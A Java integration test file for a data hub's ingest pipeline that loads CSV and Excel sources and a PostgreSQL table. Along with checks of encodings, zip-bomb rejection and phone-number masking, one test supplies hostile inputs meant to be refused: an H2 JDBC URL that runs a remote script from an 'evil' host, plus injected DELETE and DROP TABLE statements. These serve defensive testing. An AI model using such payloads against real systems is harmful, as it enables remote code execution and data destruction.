package io.jingchu.hub.ingest;

import static io.jingchu.hub.testing.Callers.as;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assumptions.assumeThat;

import com.jayway.jsonpath.JsonPath;
import io.jingchu.hub.catalog.DataResource;
import io.jingchu.hub.catalog.FieldSpec;
import io.jingchu.hub.catalog.FieldType;
import io.jingchu.hub.catalog.OpeningAttribute;
import io.jingchu.hub.identity.Caller;
import io.jingchu.hub.testing.IntegrationTest;
import io.jingchu.hub.testing.TestAccounts;
import io.jingchu.hub.testing.TestDatabase;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.Statement;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.test.web.servlet.assertj.MvcTestResult;

/** Every source format through the real load path: encodings, spreadsheets, a relational source, and PII. */
class SourceFormatsIT extends IntegrationTest {

    static final FieldSpec[] STOPS = {
            new FieldSpec("stop_id", "站点编号", FieldType.STRING, null, false, false, true),
            new FieldSpec("stop_name", "站点名称", FieldType.STRING, null, false, false),
            new FieldSpec("opened", "启用日期", FieldType.DATE, null, true, false),
            new FieldSpec("lines", "线路数", FieldType.INTEGER, null, true, false),
            new FieldSpec("remark", "备注", FieldType.STRING, null, true, false)};

    static final String CSV = """
            站点编号,站点名称,启用日期,线路数,备注
            YC001,夷陵广场站,2015-06-01,12,换乘枢纽
            YC002,宜昌东站,2012-07-01,20,
            YC003,三峡大学站,2018-09-01,5,夜班线路
            """;

    @Autowired
    IngestFixture ingest;
    @Autowired
    TestAccounts accounts;
    @Autowired
    DatasetVersions versions;

    Caller publisher;
    DataResource resource;

    @BeforeEach
    void resource() {
        publisher = accounts.publisher();
        resource = ingest.publishedResource(publisher, OpeningAttribute.UNCONDITIONAL, STOPS);
    }

    @Test
    void gbkTextIsDetectedAndReEncoded() {
        String job = ingest.load(mvc, publisher, resource.code(), "gbk.csv", CSV.getBytes(Charset.forName("GBK")));

        assertThat((Integer) JsonPath.read(job, "$.report.rowsLoaded")).isEqualTo(3);
        assertThat((String) JsonPath.read(job, "$.report.columns[1].min")).isIn("三峡大学站", "夷陵广场站", "宜昌东站");
        assertThat((List<String>) JsonPath.read(job, "$.report.columns[*].source")).contains("站点名称");
    }

    @Test
    void utf8WithAByteOrderMarkLoads() {
        byte[] bom = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
        byte[] body = CSV.getBytes(StandardCharsets.UTF_8);
        byte[] all = new byte[bom.length + body.length];
        System.arraycopy(bom, 0, all, 0, 3);
        System.arraycopy(body, 0, all, 3, body.length);

        String job = ingest.load(mvc, publisher, resource.code(), "bom.csv", all);
        assertThat((Integer) JsonPath.read(job, "$.report.rowsLoaded")).isEqualTo(3);
    }

    @Test
    void gbkForcedToBeReadAsUtf8IsRefusedAndNothingIsPublished() {
        String upload = ingest.upload(mvc, publisher, "gbk.csv", CSV.getBytes(Charset.forName("GBK")));
        MvcTestResult started = start(upload, ",\"encoding\":\"UTF-8\"");

        // The header already fails to match once it is read in the wrong encoding.
        assertThat(started).hasStatus(422).bodyJson().extractingPath("$.code").isEqualTo("SCHEMA_MISMATCH");
        assertThat(start(upload, ",\"encoding\":\"EBCDIC\"")).hasStatus(400).bodyJson().extractingPath("$.field")
                .isEqualTo("encoding");
        assertThat(versions.latest(resource.code())).isEmpty();
    }

    @Test
    void anXlsxWorkbookWithChineseHeadersLoads() throws IOException {
        String job = ingest.load(mvc, publisher, resource.code(), "站点.xlsx", workbook(new XSSFWorkbook()));

        assertThat((Integer) JsonPath.read(job, "$.report.rowsLoaded")).isEqualTo(2);
        assertThat((String) JsonPath.read(job, "$.report.columns[2].max")).isEqualTo("2018-09-01");
        assertThat((String) JsonPath.read(job, "$.report.columns[3].max")).isEqualTo("12");
    }

    @Test
    void aLegacyXlsWorkbookLoads() throws IOException {
        String job = ingest.load(mvc, publisher, resource.code(), "站点.xls", workbook(new HSSFWorkbook()));
        assertThat((Integer) JsonPath.read(job, "$.report.rowsLoaded")).isEqualTo(2);
    }

    @Test
    void aZipBombIsRefusedAndNothingIsPublished() throws IOException {
        byte[] bomb = TestWorkbooks.withPaddedSheet(workbook(new XSSFWorkbook()), 64 << 20);
        assertThat(bomb.length).isLessThan(1_000_000);
        String upload = ingest.upload(mvc, publisher, "bomb.xlsx", bomb);
        String job = ingest.awaitEnd(mvc, publisher, ingest.startLoad(mvc, publisher, resource.code(),
                "{\"upload\":\"" + upload + "\"}"));

        assertThat((String) JsonPath.read(job, "$.state")).isEqualTo("FAILED");
        assertThat((String) JsonPath.read(job, "$.error.code")).isEqualTo("ARCHIVE_BOMB");
        assertThat(versions.latest(resource.code())).isEmpty();
    }

    @Test
    void mobileNumbersInAFieldNotMarkedPersonalAreFoundAndMasked() {
        String csv = CSV + "YC004,某站,2020-01-01,3,联系人电话13812345678\n"
                .replace("联系人电话", "") + "YC005,另一站,2020-01-01,3,13987654321\n";
        String job = ingest.load(mvc, publisher, resource.code(), "pii.csv", csv.getBytes(StandardCharsets.UTF_8));

        assertThat((String) JsonPath.read(job, "$.report.personalInformation[0].field")).isEqualTo("remark");
        assertThat((String) JsonPath.read(job, "$.report.personalInformation[0].kind")).isEqualTo("MOBILE_NUMBER");
        assertThat((Integer) JsonPath.read(job, "$.report.personalInformation[0].matches")).isEqualTo(2);
        assertThat(job).doesNotContain("13812345678").doesNotContain("13987654321");
        assertThat((Double) JsonPath.read(job, "$.report.qualityScore")).isLessThan(90.0);
    }

    @Test
    void aTableIsPulledFromAPostgresqlSource() throws Exception {
        assumeThat(TestDatabase.isPostgres()).as("needs the PostgreSQL pass").isTrue();
        Map<String, Object> db = TestDatabase.connection();
        String url = ((String) db.get("spring.datasource.url")).replaceAll("\\?.*$", "");
        try (Connection c = DriverManager.getConnection(url, "postgres", "postgres"); Statement s = c.createStatement()) {
            s.execute("CREATE TABLE stops (stop_id TEXT, stop_name TEXT, opened DATE, lines INT, remark TEXT)");
            s.execute("INSERT INTO stops VALUES ('P1', '港窑路站', DATE '2019-01-01', 4, NULL), "
                    + "('P2', '东山大道站', NULL, NULL, '临时站')");
        }
        MvcTestResult started = mvc.post().uri("/api/v1/resources/" + resource.code() + "/loads").with(as(publisher))
                .contentType(MediaType.APPLICATION_JSON).content("""
                        {"jdbc": {"url": "%s", "user": "postgres", "password": "postgres", "table": "stops"}}"""
                        .formatted(url)).exchange();
        assertThat(started).hasStatus(202);
        String job = ingest.awaitEnd(mvc, publisher, ((Number) JsonPath.read(IngestFixture.text(started), "$.id"))
                .longValue());
        assertThat((String) JsonPath.read(job, "$.state")).as(job).isEqualTo("SUCCEEDED");
        assertThat(versions.latest(resource.code()).orElseThrow().rowCount()).isEqualTo(2);
        assertThat(job).doesNotContain("password=postgres");
    }

    @Test
    void relationalSourcesThatCouldRunCodeOrWriteAreRefusedAtOnce() {
        assertThat(jdbc("{\"url\": \"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'\", \"table\": \"t\"}"))
                .hasStatus(400).bodyJson().extractingPath("$.field").isEqualTo("jdbc.url");
        assertThat(jdbc("{\"url\": \"jdbc:postgresql://localhost:5432/x\", \"query\": \"DELETE FROM stops\"}"))
                .hasStatus(400).bodyJson().extractingPath("$.code").isEqualTo("SQL_NOT_ALLOWED");
        assertThat(jdbc("{\"url\": \"jdbc:postgresql://localhost:5432/x\", \"query\": \"SELECT 1; DROP TABLE t\"}"))
                .hasStatus(400).bodyJson().extractingPath("$.code").isEqualTo("SQL_NOT_ALLOWED");
        assertThat(versions.latest(resource.code())).isEmpty();
    }

    private MvcTestResult jdbc(String source) {
        return mvc.post().uri("/api/v1/resources/" + resource.code() + "/loads").with(as(publisher))
                .contentType(MediaType.APPLICATION_JSON).content("{\"jdbc\": " + source + "}").exchange();
    }

    private MvcTestResult start(String upload, String options) {
        return mvc.post().uri("/api/v1/resources/" + resource.code() + "/loads").with(as(publisher))
                .contentType(MediaType.APPLICATION_JSON).content("{\"upload\":\"" + upload + "\"" + options + "}")
                .exchange();
    }

    /** A workbook as a department exports it: Chinese headers, a date cell, a number, an empty cell. */
    private static byte[] workbook(Workbook wb) throws IOException {
        try (wb) {
            Sheet sheet = wb.createSheet("站点");
            Row header = sheet.createRow(0);
            String[] names = {"站点编号", "站点名称", "启用日期", "线路数", "备注"};
            for (int i = 0; i < names.length; i++) {
                header.createCell(i).setCellValue(names[i]);
            }
            var dateStyle = wb.createCellStyle();
            dateStyle.setDataFormat(wb.getCreationHelper().createDataFormat().getFormat("yyyy-mm-dd"));
            Object[][] rows = {{"YC001", "夷陵广场站", LocalDate.of(2015, 6, 1), 12.0, "换乘枢纽"},
                    {"YC003", "三峡大学站", LocalDate.of(2018, 9, 1), 5.0, null}};
            for (int r = 0; r < rows.length; r++) {
                Row row = sheet.createRow(r + 1);
                row.createCell(0).setCellValue((String) rows[r][0]);
                row.createCell(1).setCellValue((String) rows[r][1]);
                var date = row.createCell(2);
                date.setCellValue((LocalDate) rows[r][2]);
                date.setCellStyle(dateStyle);
                row.createCell(3).setCellValue((Double) rows[r][3]);
                if (rows[r][4] != null) {
                    row.createCell(4).setCellValue((String) rows[r][4]);
                }
            }
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            wb.write(out);
            return out.toByteArray();
        }
    }
}
